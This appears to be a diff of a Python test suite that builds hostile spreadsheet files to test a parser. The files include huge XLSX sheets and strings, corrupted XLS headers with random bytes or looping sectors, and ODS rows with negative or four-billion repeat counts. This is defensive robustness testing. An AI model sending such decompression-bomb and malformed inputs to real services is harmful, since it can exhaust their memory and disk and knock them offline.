+        "500 MB of blank rows", lambda: raw_book(_titles(*_zeros(500, b"<row></row>"))), is_quick=False
+    )
+    yield book(
+        "190 MB in one string",
+        lambda: raw_book(
+            _titles(b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>'),
+            [b"<si><t>", *_zeros(190, b"a"), b"</t></si>"],
+        ),
+        is_quick=False,
+    )
+    yield book(
+        "190 MB of short strings",
+        lambda: raw_book(_titles(_a_row(2)), _zeros(190, b"<si><t>a</t></si>")),
+        is_quick=False,
+    )
+    yield book(
+        "190 MB of one string used",
+        lambda: raw_book(
+            _titles(*_zeros(190, b'<row><c t="s"><v>0</v></c></row>')), [b"<si><t>Acme</t></si>"]
+        ),
+        is_quick=False,
+    )
     yield book("5 GB in one sheet", lambda: raw_book(_titles(*_zeros(5_000, b" "))), is_quick=False)
-    yield book("one cell of 40 MB", lambda: raw_book(_titles(b'<row r="2"><c r="A2" t="inlineStr"><is><t>', *_zeros(40, b"a"), b"</t></is></c></row>")), is_quick=False)
-    yield book("an 800 KB cell in each of 200 rows", lambda: raw_book(_titles(*(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>'.encode() for n in range(2, 202))), [b"<si><t>", b"ab " * 266_000, b"</t></si>"]), is_quick=False)
-    yield _file("B28", "xls: noise behind its mark", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(5).randbytes(40_000), name="jobs.xls")
+    yield book(
+        "one cell of 40 MB",
+        lambda: raw_book(
+            _titles(b'<row r="2"><c r="A2" t="inlineStr"><is><t>', *_zeros(40, b"a"), b"</t></is></c></row>")
+        ),
+        is_quick=False,
+    )
+    yield book(
+        "an 800 KB cell in each of 200 rows",
+        lambda: raw_book(
+            _titles(*(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>'.encode() for n in range(2, 202))),
+            [b"<si><t>", b"ab " * 266_000, b"</t></si>"],
+        ),
+        is_quick=False,
+    )
+    yield _file(
+        "B28",
+        "xls: noise behind its mark",
+        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(5).randbytes(40_000),
+        name="jobs.xls",
+    )
     yield _file("B28", "xls: a mark alone", b"\xd0\xcf\x11\xe0", name="jobs.xls")
     yield _file("B28", "xls: sectors in a ring", _ring_of_sectors, name="jobs.xls")
 
@@ -594,7 +893,9 @@ def _merged(columns: int) -> bytes:
         for name in opened.namelist():
             members[name] = opened.read(name)
     sheet = "xl/worksheets/sheet1.xml"
-    members[sheet] = members[sheet].replace(b"</sheetData>", b"</sheetData><mergeCells>" + merges + b"</mergeCells>")
+    members[sheet] = members[sheet].replace(
+        b"</sheetData>", b"</sheetData><mergeCells>" + merges + b"</mergeCells>"
+    )
     return zipped(*members.items())
 
 
@@ -639,7 +940,9 @@ def _open_documents() -> Iterator[HostileFile]:
         "a row minus one times": row(cell("Acme"), times="-1"),
         "4 billion blank rows": row("<table:table-cell/>", times="4294967295"),
     }.items():
-        yield _file("B28", f"ods: {what}", lambda rows=titles + rows: document(rows), name="jobs.ods", is_quick=False)
+        yield _file(
+            "B28", f"ods: {what}", lambda rows=titles + rows: document(rows), name="jobs.ods", is_quick=False
+        )
 
 
 def _names() -> Iterator[HostileFile]:
